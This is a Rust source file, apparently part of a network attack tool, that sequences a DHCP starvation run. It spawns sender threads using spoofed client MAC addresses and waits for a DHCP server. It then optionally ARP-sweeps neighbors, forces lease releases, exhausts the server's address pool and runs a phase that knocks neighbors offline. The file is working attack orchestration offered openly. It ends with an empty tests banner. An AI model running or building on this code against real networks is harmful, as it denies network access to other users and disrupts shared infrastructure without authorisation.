//! Sequencing of one attack run.

use std::sync::Arc;
use std::time::Duration;

use starve_common::config::{ARP_SWEEP_SPACING, Config, SERVER_RETRY_BUDGET};
use starve_common::network::interface::LinkInfo;
use starve_common::{notice, waiting};
use tokio::task::JoinSet;

use crate::attacks;
use crate::dispatcher::Dispatcher;
use crate::error::AttackError;
use crate::identity::IdentityPool;
use crate::link::PacketLink;
use crate::prober;
use crate::protocol::{self, LeaseProtocol};
use crate::sender::Sender;
use crate::session::{self, ServerIdentity, SessionSettings, SessionView};
use crate::stop::StopSignal;

type Workers = JoinSet<anyhow::Result<()>>;

/// What a finished run achieved.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Outcome {
    pub server: Option<ServerIdentity>,
    pub probed: usize,
    pub neighbors: usize,
    pub released: usize,
    pub knocked_off: usize,
}

pub struct Orchestrator {
    config: Config,
    local: LinkInfo,
    link: Arc<dyn PacketLink>,
    protocol: Arc<dyn LeaseProtocol>,
    stop: StopSignal,
}

impl Orchestrator {
    pub fn new(config: Config, local: LinkInfo, link: Arc<dyn PacketLink>, stop: StopSignal) -> Self {
        let protocol = protocol::for_config(&config, &local);
        Self {
            config,
            local,
            link,
            protocol,
            stop,
        }
    }

    /// Starts the dispatcher and the senders, then walks through the attack
    /// phases. Every worker is stopped and joined before this returns.
    pub async fn run(self) -> Result<Outcome, AttackError> {
        let identities = Arc::new(IdentityPool::new(self.config.client_macs.iter().copied()));
        let (writer, view) = session::new(SessionSettings {
            mode: self.config.mode,
            rapid_commit: self.config.rapid_commit,
            request_options: self.config.request_options.clone(),
        });

        let mut workers = Workers::new();
        workers.spawn(
            Dispatcher {
                link: Arc::clone(&self.link),
                protocol: Arc::clone(&self.protocol),
                identities: Arc::clone(&identities),
                session: writer,
                stop: self.stop.clone(),
                display: self.config.display,
                capture_window: self.config.timeouts.capture_window,
                fuzz: self.config.fuzz,
                protected_server: self.config.protected_server,
            }
            .run(),
        );
        let threads = self.config.threads.max(1);
        tracing::debug!("starting {threads} sender thread(s)");
        for id in 1..=threads {
            workers.spawn(
                Sender {
                    id,
                    link: Arc::clone(&self.link),
                    protocol: Arc::clone(&self.protocol),
                    identities: Arc::clone(&identities),
                    session: view.clone(),
                    stop: self.stop.clone(),
                    pacing: self.config.timeouts.sender_pacing,
                }
                .run(),
            );
        }

        let result = self.phases(&view, &identities, &mut workers).await;

        self.stop.trigger();
        let joined = join_all(&mut workers).await;
        tracing::debug!("all workers stopped");
        let outcome = result?;
        joined?;
        Ok(outcome)
    }

    async fn phases(
        &self,
        view: &SessionView,
        identities: &IdentityPool,
        workers: &mut Workers,
    ) -> Result<Outcome, AttackError> {
        let server = self.wait_for_server(view, workers).await?;
        let mut outcome = Outcome {
            server: Some(server),
            ..Outcome::default()
        };

        let attacks = self.config.attacks;
        if attacks.scan_neighbors {
            notice!("***  scanning for neighbors");
            outcome.probed = prober::sweep(
                Arc::clone(&self.link),
                self.config.mode,
                &self.local,
                ARP_SWEEP_SPACING,
                &self.stop,
            )
            .await
            .map_err(AttackError::Link)?;
            // replies are collected by the dispatcher
            self.pause(self.config.timeouts.server_retry, workers).await?;
        }
        if attacks.release {
            outcome.released = attacks::release(self.link.as_ref(), self.protocol.as_ref(), view)
                .map_err(AttackError::Link)?;
        }

        self.wait_for_exhaustion(view, workers).await?;

        if attacks.knockoff {
            self.pause(self.config.timeouts.exhaustion_wait, workers).await?;
            notice!("***  knocking neighbors offline");
            outcome.knocked_off = attacks::knockoff(
                Arc::clone(&self.link),
                self.config.mode,
                view,
                identities,
                &self.stop,
            )
            .await
            .map_err(AttackError::Link)?;
        }
        if self.stop.is_triggered() {
            return Err(AttackError::Interrupted);
        }

        outcome.neighbors = view.neighbors().len();
        notice!("[DONE] DHCP pool exhausted!");
        Ok(outcome)
    }

    async fn wait_for_server(
        &self,
        view: &SessionView,
        workers: &mut Workers,
    ) -> Result<ServerIdentity, AttackError> {
        for attempt in 1..=SERVER_RETRY_BUDGET {
            if let Some(server) = view.server() {
                return Ok(server);
            }
            if attempt > 1 {
                waiting!("waiting for first DHCP Server response on {}", self.config.interface);
            }
            self.pause(self.config.timeouts.server_retry, workers).await?;
        }
        view.server().ok_or_else(|| {
            notice!("[FAIL] No DHCP offers detected - aborting");
            AttackError::NoServerResponse {
                attempts: SERVER_RETRY_BUDGET,
            }
        })
    }

    async fn wait_for_exhaustion(&self, view: &SessionView, workers: &mut Workers) -> Result<(), AttackError> {
        while !view.is_exhausted() {
            waiting!("waiting for DHCP pool exhaustion...");
            self.pause(self.config.timeouts.exhaustion_wait, workers).await?;
        }
        Ok(())
    }

    /// Sleeps for `duration`, failing early on interrupt or a failed worker.
    async fn pause(&self, duration: Duration, workers: &mut Workers) -> Result<(), AttackError> {
        tokio::select! {
            _ = tokio::time::sleep(duration) => {}
            _ = self.stop.stopped() => return Err(AttackError::Interrupted),
        }
        check_workers(workers)
    }
}

/// Surfaces the failure of any worker that has already finished.
fn check_workers(workers: &mut Workers) -> Result<(), AttackError> {
    while let Some(joined) = workers.try_join_next() {
        flatten(joined)?;
    }
    Ok(())
}

async fn join_all(workers: &mut Workers) -> Result<(), AttackError> {
    let mut first = Ok(());
    while let Some(joined) = workers.join_next().await {
        if let Err(e) = flatten(joined) {
            tracing::debug!("{e}");
            if first.is_ok() {
                first = Err(e);
            }
        }
    }
    first
}

fn flatten(joined: Result<anyhow::Result<()>, tokio::task::JoinError>) -> Result<(), AttackError> {
    match joined {
        Ok(Ok(())) => Ok(()),
        Ok(Err(e)) => Err(AttackError::Worker(e)),
        Err(e) => Err(AttackError::Worker(anyhow::Error::new(e))),
    }
}

// ╔════════════════════════════════════════════╗
// ║ ████████╗███████╗███████╗████████╗███████╗ ║
// ║ ╚══██╔══╝██╔════╝██╔════╝╚══██╔══╝██╔════╝ ║
// ║    ██║   █████╗  ███████╗   ██║   ███████╗ ║
// ║    ██║   ██╔══╝  ╚════██║   ██║   ╚════██║ ║
// ║    ██║   ███████╗███████║   ██║   ███████║ ║
// ║    ╚═╝   ╚══════╝╚══════╝   ╚═╝   ╚══════╝ ║
// ╚════════════════════════════════════════════╝
